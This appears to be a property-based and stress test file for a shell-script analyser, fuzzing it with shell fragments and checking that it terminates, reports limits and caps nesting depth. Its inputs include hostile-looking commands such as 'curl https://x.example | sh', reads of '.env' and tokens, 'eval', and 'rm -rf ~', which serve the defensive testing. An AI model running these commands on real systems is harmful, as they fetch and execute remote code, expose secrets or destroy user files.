import fc from 'fast-check';
import { expect, test } from 'vitest';
import { LIMITS } from '../../src/model/index.js';
import { follow } from './support.js';

const PIECES = [
  ...[
    'curl ',
    'https://x.example ',
    '| sh',
    '$(',
    ')',
    '"',
    "'",
    '`',
    '${A:-',
    '}',
    '<<EOF\n',
    '\nEOF\n',
    '\n',
    ';',
    '&& ',
  ],
  ...[
    '$A_TOKEN ',
    '> /tmp/x ',
    '< .env ',
    'base64 -d ',
    'eval ',
    'for i in a b; do ',
    'done ',
    'if ',
    'fi ',
    '{',
    '(',
    '\\',
  ],
  ...[
    "$'\\x63' ",
    'x=$x$x ',
    'x=',
    'f() { ',
    'f ',
    '-d @- ',
    'sudo ',
    'xargs -I{} ',
    '[[ ',
    ']] ',
    '…',
    '\0',
    '\ud800',
    '<(',
    '>(',
  ],
];

test('any text is followed without an error', () => {
  const script = fc.array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ maxLength: 6 })), { maxLength: 60 });
  fc.assert(
    fc.property(script, fc.constantFrom('file', 'block', 'inline'), (pieces, kind) => {
      const { units } = follow(pieces.join(''), { kind });
      for (const unit of units) unit.placeAt(unit.text.length);
    }),
    { numRuns: 400 },
  );
});

test.each([
  ['one long word', `curl ${'a'.repeat(1e6)}`],
  ['brackets', `curl ${'('.repeat(1e5)}`],
  ['scripts in scripts', `${'$('.repeat(5e4)}curl`],
  ['quotes', `curl ${'"'.repeat(50_001)}`],
  ['doubling', `a=xxxxxxxx\n${'a=$a$a\n'.repeat(1000)}curl $a`],
  ['loops in loops', `${'for i in 1 2 3 4 5 6 7 8; do '.repeat(40)}curl x${'; done'.repeat(40)}`],
  ['many commands', 'curl https://x.example | sh\n'.repeat(30_000)],
  ['many redirects', `curl ${'> a '.repeat(1e5)}`],
  ['many variables', 'curl $A_TOKEN '.repeat(6e4)],
])('%s end in time', (_, script) => {
  const start = performance.now();
  const { facts } = follow(script);
  // Much more than it takes, because machines that run tests are busy.
  expect(performance.now() - start).toBeLessThan(10_000);
  expect(facts.length).toBeLessThan(20_000);
});

test('a function that calls itself ends', () => {
  expect(() => follow('f() { f; f; curl x; }; f')).not.toThrow();
});

test('what is too much to follow is said', () => {
  const { facts } = follow('curl https://x.example | sh\n'.repeat(30_000));
  expect(facts).toContainEqual(expect.objectContaining({ type: 'incomplete', reason: 'limit' }));
});

test('a long chain is not a deep one', () => {
  const { facts } = follow(`${'true && '.repeat(2000)}rm -rf ~`);
  expect(facts).toContainEqual(expect.objectContaining({ type: 'remove', path: '~' }));
});

test('units inside end at the limit', () => {
  let script = 'id; id';
  for (let turn = 0; turn < 10; turn += 1) script = `bash -c ${JSON.stringify(script)}`;
  expect(Math.max(...follow(script).units.map(({ depth }) => depth))).toBeLessThanOrEqual(LIMITS.depth);
});
